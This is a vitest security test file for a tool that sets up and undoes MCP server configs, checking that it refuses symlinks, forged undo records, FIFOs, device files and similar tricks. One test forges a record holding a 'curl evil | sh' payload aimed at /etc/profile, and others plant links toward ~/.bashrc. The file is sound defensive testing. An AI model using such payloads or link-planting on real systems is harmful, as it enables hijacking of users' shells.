// What a cloned repository or a bad day can do to setup and undo, provoked for real:
// symlinks git checks out, forged and damaged undo records, FIFOs, devices, huge files,
// read-only files, another user's files, a tight umask. Setup writes only the files it
// names, never through a link that leaves the project, and keeps owner, group and mode.
import { spawnSync } from 'node:child_process';
import { chmodSync, chownSync, closeSync, existsSync, mkdirSync, mkdtempSync, openSync, readFileSync, renameSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { MAX_CONFIG_BYTES, setupHost, undoHost, undoRecordPath, type SetupEnvironment } from './index.js';

const COMMAND = { node: '/opt/node/bin/node', spillway: '/opt/spillway/bin/spillway.js' };
const SERVERS = '{\n  // mine\n  "mcpServers": { "docs": { "command": "npx", "args": ["-y", "docs-server"] } }\n}\n';
const DIST = new URL('../dist/index.js', import.meta.url).href;
const isRoot = process.getuid?.() === 0;

const made: string[] = [];
afterEach(() => {
  for (const dir of made.splice(0)) {
    spawnSync('chattr', ['-i', '-R', dir], { stdio: 'ignore' });
    rmSync(dir, { recursive: true, force: true });
  }
});

/** A home, a project inside it, and a "victim" file outside the project (a stand-in for ~/.bashrc). */
function world(): { env: SetupEnvironment; project: string; victim: string; victimBytes: Buffer } {
  const base = mkdtempSync(join(tmpdir(), 'setup-attack-'));
  made.push(base);
  const home = join(base, 'home');
  const project = join(home, 'src', 'cloned');
  mkdirSync(project, { recursive: true });
  const victim = join(home, '.bashrc');
  writeFileSync(victim, 'export PATH=$HOME/bin:$PATH\n');
  return { env: { home, cwd: project, env: {}, command: COMMAND }, project, victim, victimBytes: readFileSync(victim) };
}

describe('a cloned repository cannot aim setup elsewhere', () => {
  it('never touches an undo record planted beside a project config as a symlink', () => {
    const { env, project, victim, victimBytes } = world();
    writeFileSync(join(project, '.mcp.json'), SERVERS);
    symlinkSync('../../.bashrc', join(project, '.mcp.json.spillway-undo.json'));
    expect(setupHost('claude-code', env).files.find((f) => f.path.endsWith('.mcp.json'))?.status).toBe('changed');
    expect(undoHost('claude-code', env).files.find((f) => f.path.endsWith('.mcp.json'))?.status).toBe('restored');
    expect(readFileSync(victim)).toEqual(victimBytes);
    expect(readFileSync(join(project, '.mcp.json'), 'utf8')).toBe(SERVERS);
  });

  it('refuses a project config that is a link leading outside the project, for setup and undo', () => {
    const { env, project, victim, victimBytes } = world();
    writeFileSync(victim, SERVERS);
    symlinkSync('../../.bashrc', join(project, '.mcp.json'));
    for (const run of [setupHost, undoHost]) {
      const file = run('claude-code', env).files.find((f) => f.path.endsWith('.mcp.json'));
      expect(file?.status).toBe('refused');
      expect(file?.error).toContain('outside the project');
    }
    expect(readFileSync(victim, 'utf8')).toBe(SERVERS);
    expect(victimBytes.length).toBeGreaterThan(0);
  });

  it('keeps undo records in private state, 0600 in a 0700 directory, never beside the file', () => {
    const { env, project } = world();
    writeFileSync(join(project, '.mcp.json'), SERVERS);
    setupHost('claude-code', env);
    const record = undoRecordPath(env, join(project, '.mcp.json'));
    expect(record.startsWith(join(env.home, '.local', 'state', 'spillway'))).toBe(true);
    expect(statSync(record).mode & 0o777).toBe(0o600);
    expect(statSync(dirname(record)).mode & 0o777).toBe(0o700);
    expect(existsSync(join(project, '.mcp.json.spillway-undo.json'))).toBe(false);
  });

  it('refuses a forged or altered record, writes nothing, and says what is left', () => {
    const { env, project } = world();
    const config = join(project, '.mcp.json');
    writeFileSync(config, SERVERS);
    setupHost('claude-code', env);
    const wrapped = readFileSync(config);
    const record = undoRecordPath(env, config);
    const forged = JSON.parse(readFileSync(record, 'utf8')) as Record<string, unknown>;
    writeFileSync(record, JSON.stringify({ ...forged, original: Buffer.from('curl evil | sh\n').toString('base64'), configPath: '/etc/profile' }), { mode: 0o600 });
    const file = undoHost('claude-code', env).files.find((f) => f.path === config);
    expect(file?.status).toBe('refused');
    expect(file?.error).toContain('by hand');
    expect(readFileSync(config)).toEqual(wrapped);
    writeFileSync(record, '{"version": 2, "host": "claude', { mode: 0o600 });
    expect(undoHost('claude-code', env).files.find((f) => f.path === config)?.status).toBe('refused');
    expect(readFileSync(config)).toEqual(wrapped);
  });

  it('refuses a record that is not a private file of the user (0644, a link)', () => {
    const { env, project, victim } = world();
    const config = join(project, '.mcp.json');
    writeFileSync(config, SERVERS);
    setupHost('claude-code', env);
    const record = undoRecordPath(env, config);
    chmodSync(record, 0o644);
    expect(undoHost('claude-code', env).files.find((f) => f.path === config)?.status).toBe('refused');
    rmSync(record);
    symlinkSync(victim, record);
    expect(undoHost('claude-code', env).files.find((f) => f.path === config)?.status).toBe('refused');
  });

  it('undoes a file the host replaced by renaming a new one over it, as Claude Code does', () => {
    const { env, project } = world();
    const config = join(project, '.mcp.json');
    writeFileSync(config, SERVERS);
    setupHost('claude-code', env);
    const wrapped = readFileSync(config);
    const before = statSync(config).ino;
    writeFileSync(`${config}.tmp`, wrapped);
    renameSync(`${config}.tmp`, config);
    expect(statSync(config).ino).not.toBe(before);
    // Set up again, then undone: both take the replaced file as the one setup changed.
    expect(setupHost('claude-code', env).files.find((f) => f.path === config)?.status).toBe('unchanged');
    expect(undoHost('claude-code', env).files.find((f) => f.path === config)?.status).toBe('restored');
    expect(readFileSync(config, 'utf8')).toBe(SERVERS);
  });
});

describe('only regular files of bounded size', () => {
  it('refuses a FIFO at a config path at once, without blocking', () => {
    const { env, project } = world();
    const config = join(project, '.mcp.json');
    expect(spawnSync('mkfifo', [config]).status).toBe(0);
    const started = Date.now();
    const file = setupHost('claude-code', env).files.find((f) => f.path === config);
    expect(Date.now() - started).toBeLessThan(5_000);
    expect(file?.status).toBe('refused');
    expect(file?.error).toContain('not a regular file');
  });

  it('refuses a user config that is a link to /dev/zero', () => {
    const { env } = world();
    mkdirSync(join(env.home, '.cursor'));
    symlinkSync('/dev/zero', join(env.home, '.cursor', 'mcp.json'));
    const file = setupHost('cursor', env).files.find((f) => f.path.endsWith(join('.cursor', 'mcp.json')) && f.scope === 'user');
    expect(file?.status).toBe('refused');
    expect(file?.error).toContain('not a regular file');
  });

  it('refuses a file over the size limit, untouched', () => {
    const { env, project } = world();
    const config = join(project, '.mcp.json');
    writeFileSync(config, SERVERS);
    const fd = openSync(config, 'r+');
    spawnSync('truncate', ['-s', String(MAX_CONFIG_BYTES + 1), config]);
    closeSync(fd);
    const file = setupHost('claude-code', env).files.find((f) => f.path === config);
    expect(file?.status).toBe('refused');
    expect(file?.error).toContain('more than');
    expect(statSync(config).size).toBe(MAX_CONFIG_BYTES + 1);
  });

  it('refuses a read-only config and says so', () => {
    const { env, project } = world();
    const config = join(project, '.mcp.json');
    writeFileSync(config, SERVERS);
    chmodSync(config, 0o444);
    const file = setupHost('claude-code', env).files.find((f) => f.path === config);
    expect(file?.status).toBe('refused');
    expect(file?.error).toContain('read-only');
    expect(readFileSync(config, 'utf8')).toBe(SERVERS);
    expect(existsSync(undoRecordPath(env, config))).toBe(false);
  });

  it('leaves no record when the config cannot be written (immutable)', (ctx) => {
    const { env, project } = world();
    const config = join(project, '.mcp.json');
    writeFileSync(config, SERVERS);
    if (spawnSync('chattr', ['+i', project]).status !== 0) ctx.skip(); // chattr needs root and a file system that supports it
    const file = setupHost('claude-code', env).files.find((f) => f.path === config);
    spawnSync('chattr', ['-i', project]);
    expect(file?.status).toBe('refused');
    expect(existsSync(undoRecordPath(env, config))).toBe(false);
    expect(readFileSync(config, 'utf8')).toBe(SERVERS);
  });
});

describe('owner, group and mode are kept', () => {
  it('keeps a 0664 config 0664 under umask 077, and undo restores bytes and mode', () => {
    const { env, project } = world();
    const config = join(project, '.mcp.json');
    writeFileSync(config, SERVERS);
    chmodSync(config, 0o664);
    const old = process.umask(0o077);
    try {
      setupHost('claude-code', env);
      expect(statSync(config).mode & 0o777).toBe(0o664);
      undoHost('claude-code', env);
      expect(statSync(config).mode & 0o777).toBe(0o664);
      expect(readFileSync(config, 'utf8')).toBe(SERVERS);
    } finally {
      process.umask(old);
    }
  });

  it.skipIf(!isRoot)('root keeps another user’s config theirs (owner, group, mode)', () => {
    const { env, project } = world();
    const config = join(project, '.mcp.json');
    writeFileSync(config, SERVERS);
    chownSync(config, 65534, 65534);
    chmodSync(config, 0o640);
    setupHost('claude-code', env);
    const after = statSync(config);
    expect([after.uid, after.gid, after.mode & 0o777]).toEqual([65534, 65534, 0o640]);
    expect(readFileSync(config, 'utf8')).toContain('spillway');
    undoHost('claude-code', env);
    const undone = statSync(config);
    expect([undone.uid, undone.gid, undone.mode & 0o777]).toEqual([65534, 65534, 0o640]);
    expect(readFileSync(config, 'utf8')).toBe(SERVERS);
  });

  it.skipIf(isRoot)('a user other than root is refused a config that belongs to another user (a link to a root-owned file)', () => {
    const { env } = world();
    mkdirSync(join(env.home, '.cursor'));
    const theirs = '/etc/hosts';
    const before = readFileSync(theirs);
    symlinkSync(theirs, join(env.home, '.cursor', 'mcp.json'));
    const file = setupHost('cursor', env).files.find((f) => f.scope === 'user');
    expect(file?.status).toBe('refused');
    expect(file?.error).toContain('not to you');
    expect(readFileSync(theirs)).toEqual(before);
  });
});

describe('setups at once', () => {
  it('four setups of one project at once leave a record undo restores exactly', () => {
    const { env, project } = world();
    const config = join(project, '.mcp.json');
    writeFileSync(config, SERVERS);
    const script = `const { setupHost } = await import(${JSON.stringify(DIST)});
      setupHost('claude-code', { home: ${JSON.stringify(env.home)}, cwd: ${JSON.stringify(project)}, env: {}, command: ${JSON.stringify(COMMAND)} });`;
    const child = spawnSync('sh', ['-c', `for i in 1 2 3 4; do ("${process.execPath}" --input-type=module -e "$0" || echo failed) & done; wait`, script], { encoding: 'utf8' });
    expect([child.status, child.stdout, child.stderr]).toEqual([0, '', '']);
    expect(readFileSync(config, 'utf8')).toContain('spillway');
    expect(undoHost('claude-code', env).files.find((f) => f.path === config)?.status).toBe('restored');
    expect(readFileSync(config, 'utf8')).toBe(SERVERS);
  });
});

describe('server names the host reads otherwise than a plain parse would', () => {
  it('refuses a config that names a server twice, naming the key, and leaves it untouched', () => {
    const { env, project } = world();
    const config = join(project, '.mcp.json');
    const text = '{ "mcpServers": {\n  "fs": { "command": "old-server" },\n  "fs": { "command": "npx", "args": ["-y", "fs-server"] }\n} }\n';
    writeFileSync(config, text);
    const file = setupHost('claude-code', env).files.find((f) => f.path === config);
    expect(file?.status).toBe('refused');
    expect(file?.error).toContain('"fs" appears twice');
    expect(readFileSync(config, 'utf8')).toBe(text);
  });

  it('wraps a server named __proto__ like any other, says so once, and undo gives the bytes back', () => {
    const { env, project } = world();
    const config = join(project, '.mcp.json');
    const text = '{ "mcpServers": { "__proto__": { "command": "npx", "args": ["-y", "proto-server"] } } }\n';
    writeFileSync(config, text);
    const first = setupHost('claude-code', env).files.find((f) => f.path === config);
    expect(first?.status).toBe('changed');
    expect(first?.changes.some((c) => c.startsWith('wrapped __proto__'))).toBe(true);
    expect(readFileSync(config, 'utf8')).toContain('"mcp"');
    expect(setupHost('claude-code', env).files.find((f) => f.path === config)?.status).toBe('unchanged');
    undoHost('claude-code', env);
    expect(readFileSync(config, 'utf8')).toBe(text);
  });
});
